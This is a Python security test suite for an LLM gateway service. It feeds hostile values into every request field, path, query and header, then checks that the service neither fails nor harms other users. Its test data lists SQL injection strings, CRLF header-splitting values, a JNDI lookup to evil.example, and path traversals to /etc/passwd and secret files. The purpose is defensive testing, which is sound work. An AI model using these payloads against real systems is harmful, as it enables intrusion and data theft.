"""Hostile text in every field, path, query and header: it is text, and nothing else."""

from __future__ import annotations

import json
import sqlite3
from collections.abc import AsyncIterator, Iterator, Mapping
from contextlib import closing
from datetime import timedelta
from itertools import count
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_from_bytes

import pytest

from llmlb.accounts import Invitation, KeyId, Role, UserId
from llmlb.accounts.credentials import digest_of
from llmlb.http.openapi.document import build_document
from llmlb.http.upstream.outgoing import OutgoingHeaders
from tests.fakes.accounts import bearer, key, user
from tests.fakes.asgi import Request
from tests.fakes.house import PATHS
from tests.fakes.openai import chat, completion
from tests.fakes.upstream import json_answer
from tests.sampling import some
from tests.security.town import STRANGER, Town, settle_in, town_in

DOCUMENT: dict[str, Any] = build_document()
OPERATIONS: dict[str, dict[str, Any]] = {
    f"{method.upper()} {path}": operation
    for path, operations in DOCUMENT["paths"].items()
    for method, operation in operations.items()
}

SQL = (
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    '"; DELETE FROM api_keys; --',
    "1); ATTACH DATABASE 'evil.db' AS evil; --",
    "x' UNION SELECT password_hash FROM users; --",
    "\\'; PRAGMA writable_schema=1; --",
    "?1 :id @id $id %s %(id)s",
)
BREAKS = ("x\r\nx-evil: 1", "x\nset-cookie: evil=1", "x\x00y", "x\r\n\r\n<html>", "\x1b[2J\x07")
ODD = (
    "\ud800",
    "\udfff\ud83d",
    "\u202ewen\u202c",
    "\u2066x\u2069",
    "\u2028\u2029",
    "\ufeff",
    "\uffff\ufffe",
    "\U0001f600" * 20,
    "\U0010ffff",
    "e\u0301" * 60,
    "z" + "\u0338" * 500,
    "\ufdfa" * 50,
    "\u0130\u0131\u017f\u212a\u00df",
    "\u0430dmin",
    "\u200badmin",
    " \t\v\f\xa0\u3000",
)
OTHER = (
    "",
    "../../../etc/passwd",
    "..\\..\\x",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "${jndi:ldap://evil.example/x}",
    "<script>alert(1)</script>",
    "file:///etc/passwd",
    "http://[",
    "http://user:pass@evil.example:99999/#?",
    "gopher://evil.example/_x",
    "2026-13-45T99:99:99+99:99",
    "x" * 10_000,
)
TEXTS = (*SQL, *BREAKS, *ODD, *OTHER)

NUMBERS = (
    "0", "-1", "1e308", "1e999", "-0.0", "1e-400", "9" * 5_000, "1" * 25, "0.1", "NaN", "-Infinity",
)  # fmt: skip
SHAPES = ("null", "true", "[]", "{}", "[[[]]]", '[null,1,"x",{}]', '{"":""}', '{"x":{"x":null}}')

HOSTILE = [*(json.dumps(text) for text in TEXTS), *NUMBERS, *SHAPES]
"""As JSON."""
INSIDE = [json.dumps(text) for text in (SQL[1], BREAKS[0], BREAKS[2], ODD[0], ODD[2], OTHER[-1])]

IDS = {
    "endpoint_id": "id-a",
    "user_id": "user-eve",
    "key_id": "key-ann-all",
    "invitation_id": "inv-1",
    "response_id": "resp_1",
    "name": "tiny",
}

_addresses = count(0x0A00_0000, 256)


def from_anywhere() -> dict[str, Any]:
    """Part of the scope of a request from where nobody has failed to log in yet."""
    number = next(_addresses)
    address = ".".join(str(number >> shift & 255) for shift in (24, 16, 8, 0))
    return {**STRANGER, "client": (address, 40_000)}


@pytest.fixture
async def filed(tmp_path: Path) -> AsyncIterator[Town]:
    """A town on a database in a file, with sam, whom nobody means any harm."""
    async with town_in(tmp_path, database_url=None) as town:
        await settle_in(town)
        for api in PATHS:
            town.served.scene.on("a", json_answer(completion()), api)
        end = town.clock.now + timedelta(days=1)
        await town.move_in(
            user("sam", Role.VIEWER),
            user("eve", Role.VIEWER),
            key("sam-key", "sam"),
            Invitation("inv-1", digest_of("x"), UserId("user-ann"), town.clock.now, end),
        )
        yield town


def tables(directory: Path) -> list[tuple[str, str]]:
    with closing(sqlite3.connect(directory / "llmlb.db")) as database:
        assert database.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
        assert not database.execute("PRAGMA foreign_key_check").fetchall()
        return database.execute("SELECT name, sql FROM sqlite_master ORDER BY name").fetchall()


class Bystander:
    """Sees to it that nothing happens to others."""

    def __init__(self, town: Town, directory: Path) -> None:
        self._town, self._directory = town, directory
        self._before = self._seen()

    def _seen(self) -> object:
        accounts = self._town.accounts
        mine = accounts.users[UserId("user-sam")], accounts.keys[KeyId("key-sam-key")]
        return mine, self._town.user("ann").role, tables(self._directory)

    async def assert_unharmed(self) -> None:
        town = self._town
        assert self._seen() == self._before
        assert {path.name for path in self._directory.rglob("*evil*")} == set()
        assert (await town("GET", "/v1/models", headers=bearer("sam-key"))).status == 200
        assert (await town("GET", "/api/endpoints", headers=town.by_token("sam"))).status == 200
        assert (await town("GET", "/api/users", headers=town.by_token("sam"))).status == 403
        assert (await town("GET", "/ready")).status == 200
        assert (await town.log_in("sam", **from_anywhere())).status == 200
        assert not town.served.scene.leases
        assert town.served.app.body_budget.held_bytes == 0


def assert_sound(reply: Request, about: object) -> None:
    """An answer like any other, and no 500."""
    assert reply.complete, about
    assert reply.status != 500, (about, reply.body)
    assert 200 <= reply.status < 600
    for name, text in reply.answer[0]["headers"]:
        assert not set(name + text) & {0, 10, 13}, (about, name, text)
        assert b"evil" not in name
    if reply.status >= 400:
        assert "error" in json.loads(reply.body), about


def credential_for(town: Town, path: str) -> dict[str, str]:
    return bearer("ann-all") if path.startswith("/v1") else town.by_token("ann")


def path_of(template: str) -> str:
    for name, value in IDS.items():
        template = template.replace(f"{{{name}}}", value)
    return template


# -- bodies


def body_in(operation: Mapping[str, Any]) -> dict[str, Any] | None:
    content: dict[str, Any] = operation.get("requestBody", {}).get("content", {})
    return content.get("application/json")


def fields_of(operation: Mapping[str, Any]) -> list[str]:
    schema = (body_in(operation) or {})["schema"]
    if "$ref" in schema:
        schema = DOCUMENT["components"]["schemas"][schema["$ref"].rpartition("/")[2]]
    return sorted(schema["properties"])


def bodies_of(operation: Mapping[str, Any]) -> Iterator[bytes]:
    """The example, with each field replaced by each hostile value."""
    example: dict[str, Any] = (body_in(operation) or {})["example"]
    mark = "@@mark@@"
    for name in fields_of(operation):
        text = json.dumps({**example, name: mark}).replace("tiny-llama", "tiny")
        before, _, after = text.partition(json.dumps(mark))
        for hostile in some(HOSTILE, (example, name), every=4):
            yield f"{before}{hostile}{after}".encode()
        for hostile in some(INSIDE, (example, name), every=3):
            for shape in (f"[{hostile}]", f'{{"x":{hostile}}}', f'{{{hostile}:"x"}}'):
                yield f"{before}{shape}{after}".encode()
    for hostile in HOSTILE:
        yield hostile.encode()
    for hostile in INSIDE:
        yield json.dumps(example).replace("{", "{" + hostile + ":1,", 1).encode()


WITH_BODIES = [name for name, operation in OPERATIONS.items() if body_in(operation)]


@pytest.mark.parametrize("route", WITH_BODIES)
async def test_every_field_of_every_body(filed: Town, tmp_path: Path, route: str) -> None:
    method, template = route.split()
    bystander = Bystander(filed, tmp_path)
    for body in bodies_of(OPERATIONS[route]):
        headers = credential_for(filed, template)
        reply = await filed(method, path_of(template), body, headers=headers, **from_anywhere())
        assert_sound(reply, (route, body[:300]))
    for call in filed.served.scene.requests():
        assert not any(set(text) & set("\r\n\0") for text in call.headers.values())
    await bystander.assert_unharmed()


# -- paths and queries

PARAMETERS = [
    (route, parameter["name"])
    for route, operation in OPERATIONS.items()
    for parameter in operation.get("parameters", ())
    if parameter["in"] == "path"
]


@pytest.mark.parametrize(("route", "name"), PARAMETERS)
async def test_every_parameter_of_a_path(
    filed: Town, tmp_path: Path, route: str, name: str
) -> None:
    method, template = route.split()
    bystander = Bystander(filed, tmp_path)
    for text in some(TEXTS, (route, name), every=4):
        raw = text.encode("utf-8", "surrogatepass")
        before, _, after = template.partition(f"{{{name}}}")
        path = path_of(before) + raw.decode("utf-8", "replace") + path_of(after)
        sent = (path_of(before) + quote_from_bytes(raw, safe="/") + path_of(after)).encode()
        headers = credential_for(filed, template)
        for query in (b"", b"stream=true"):
            reply = await filed(
                method, path, b"{}", headers=headers, raw_path=sent, query_string=query
            )
            assert_sound(reply, (route, text))
            if len(text) > 9_000 or method == "GET":
                continue
            assert reply.status in (400, 404, 405, 409), (route, text, reply.body)
    await bystander.assert_unharmed()


async def test_every_parameter_of_a_query(filed: Town, tmp_path: Path) -> None:
    bystander = Bystander(filed, tmp_path)
    for route, operation in OPERATIONS.items():
        method, template = route.split()
        if method != "GET" or template.endswith("/events"):
            continue
        named = [p["name"] for p in operation.get("parameters", ()) if p["in"] == "query"]
        for name in [*named, "x", "'; DROP TABLE users; --"]:
            for text in some((*TEXTS, *NUMBERS), (route, name), every=4):
                raw = quote(text.encode("utf-8", "surrogatepass"))
                query = f"{quote(name)}={raw}&{quote(name)}={raw}".encode()
                headers = credential_for(filed, template)
                reply = await filed(method, path_of(template), headers=headers, query_string=query)
                assert_sound(reply, (route, name, text))
    await bystander.assert_unharmed()


# -- headers

READ = (
    "accept", "authorization", "connection", "content-encoding", "content-length", "content-type",
    "cookie", "expect", "forwarded", "host", "last-event-id", "origin", "referer", "sec-fetch-mode",
    "sec-fetch-site", "traceparent", "tracestate", "transfer-encoding", "upgrade", "via",
    "x-api-key", "x-csrf-token", "x-forwarded-for", "x-forwarded-host", "x-forwarded-proto",
    "x-llmlb-instance", "x-llmlb-timeout-s", "x-request-id",
)  # fmt: skip

IN_HEADERS = (
    *SQL, "x\x00y", "\x1b[2J", "", " ", "\t", ",", ";", "=", '"', "\\", "\x7f", "\xff\xfe", "\xb2",
    "\xe9.\xe9.\xe9", "x" * 8_000, "=" * 5_000, ";" * 5_000, "," * 5_000, "[", "[::1", "http://[",
    "http://[::1]:x", "-1", "nan", "inf", "1e9", "99999999999999999999", "1_0", "0x10", "00",
    "Bearer", "Bearer ", "Bearer \xff", "Basic =", "llmlb_jwt", 'llmlb_jwt="\\377"',
    "llmlb_jwt=\xff", "llmlb_device=\x00", "gzip, gzip", "multipart/form-data",
    'multipart/form-data; boundary="', "application/json; charset=utf-7",
)  # fmt: skip
"""What a server lets through: h11 ends a connection on which a header holds CR or LF."""


@pytest.mark.parametrize("name", READ)
@pytest.mark.parametrize("settings", [{"trusted_proxies": "0.0.0.0/0"}], ids=["behind a proxy"])
async def test_every_header_that_is_read(town: Town, name: str) -> None:
    scene = town.served.scene
    login = json.dumps({"username": "ann", "password": "wrong"}).encode()
    for text in IN_HEADERS:
        for method, path, body, held in (
            ("POST", "/v1/chat/completions", chat(), bearer("ann-all")),
            ("POST", "/v1/messages", chat(max_tokens=5), bearer("ann-all")),
            ("POST", "/api/invitations", b"{}", town.by_cookie("ann")),
            ("GET", "/api/dashboard/events?", b"", {}),
            ("POST", "/api/auth/login", login, {}),
        ):
            sent = [*((n, t) for n, t in held.items() if n != name), (name, text)]
            reply = await town(method, path, body, headers=sent, **from_anywhere())
            assert_sound(reply, (path, name, text))
            twice = await town(method, path, body, headers=[*sent, (name, "x")], **from_anywhere())
            assert_sound(twice, (path, name, text))
            if held and name in ("authorization", "x-api-key"):
                assert reply.status == 401
    for call in scene.requests():
        # raises for what HTTP cannot carry, and the endpoint would be blamed for it
        assert OutgoingHeaders(call.endpoint, "this").lines(tuple(call.headers.items()))
        assert "cookie" not in call.headers
    assert [admin.username for admin in town.accounts.admins] == ["ann"]


@pytest.mark.parametrize("host", ["a..b", "x" * 64, ".", "\xff", "a b", "[", "x:y:z", ":", "a@b"])
async def test_a_host_that_is_no_name_breaks_nothing_off(town: Town, host: str) -> None:
    """On hypercorn's own connections an exception ends the server."""
    for path, held, status in (
        ("/health", {}, 200),
        ("/nowhere", {}, 404),
        ("/api/users", {}, 401),
        ("/api/users", town.by_token("ann"), 200),
        ("/v1/models", bearer("ann-all"), 200),
    ):
        assert (await town("GET", path, headers={**held, "host": host})).status == status
    assert (await town("DELETE", "/health", headers={"host": host})).status == 405


@pytest.mark.parametrize("name", ["accept", "traceparent", "tracestate", "x-llmlb-instance", "x"])
@pytest.mark.parametrize("control", ["\x01", "\x1b[31m", "\x7f", "\x00"])
async def test_no_header_makes_an_endpoint_look_broken(town: Town, name: str, control: str) -> None:
    """h11 lets control characters in, and the way to the endpoint lets none out."""
    headers = {**bearer("vic-all"), name: f"a{control}b"}

    reply = await town("POST", "/v1/chat/completions", chat(), headers=headers)

    assert (reply.status, reply.error["code"]) == (400, "invalid_value")
    assert not town.served.scene.requests()


# -- paths that lead out

OUT = (
    "/setup.css/../setup.html", "/setup.css/..", "/setup.css/", "/setup.css/x", "/setup.css%00",
    "/setup.css\x00.html", "/setup.css\\..\\setup.html", "/..%2fsetup.css", "/SETUP.CSS",
    "/setup.css;x", "/./setup.css", "/\\setup.css", "/static/setup.css", "/templates/setup.html",
    "/setup.html", "/manage/templates/setup.html", "/etc/passwd", "/../../../../etc/passwd",
    "/%2e%2e/%2e%2e/etc/passwd", "/..%5c..%5cetc/passwd", "/%252e%252e/etc/passwd",
    "/\u2025/etc/passwd", "/\uff0e\uff0e/etc/passwd", "/dashboard/../llmlb.db", "/llmlb.db",
    "/llmlb.db-wal", "/session.keys", "/llmlb.toml", "/.env", "/.git/config", "/api/../health",
    "/health/../api/users", "/api//users", "/api/users/", "/API/users", "/api/./users",
    "/api/users/..", "/api/users%2f..", "/api\\users", "/api/users;.css", "/api/users.json",
    "/v1/../api/users", "/v0/../../etc/passwd",
)  # fmt: skip


@pytest.mark.parametrize("path", OUT)
async def test_no_path_leads_out_of_what_there_is(town: Town, path: str) -> None:
    for held in ({}, town.by_token("ann"), bearer("ann-all")):
        for raw in (path.encode(), quote(path, safe="/%").encode()):
            reply = await town("GET", path, headers=held, raw_path=raw)
            assert reply.status in (404, 405), (path, reply.status)
            assert reply.error
            for said in (b"root:", b"SQLite format", b"<html", b"font-family"):
                assert said not in reply.body


async def test_a_second_slash_before_a_path_opens_nothing(town: Town) -> None:
    for path in ("//api/users", "///api/users", "//v1/models"):
        reply = await town("GET", path)
        assert reply.status in (401, 404)
    assert (await town("GET", "//api/users", headers=town.by_token("vic"))).status in (403, 404)


async def test_the_only_file_that_is_served_is_the_one_that_is_meant(town: Town) -> None:
    reply = await town("GET", "/setup.css")

    assert (reply.status, reply.headers["content-type"]) == (200, "text/css; charset=utf-8")
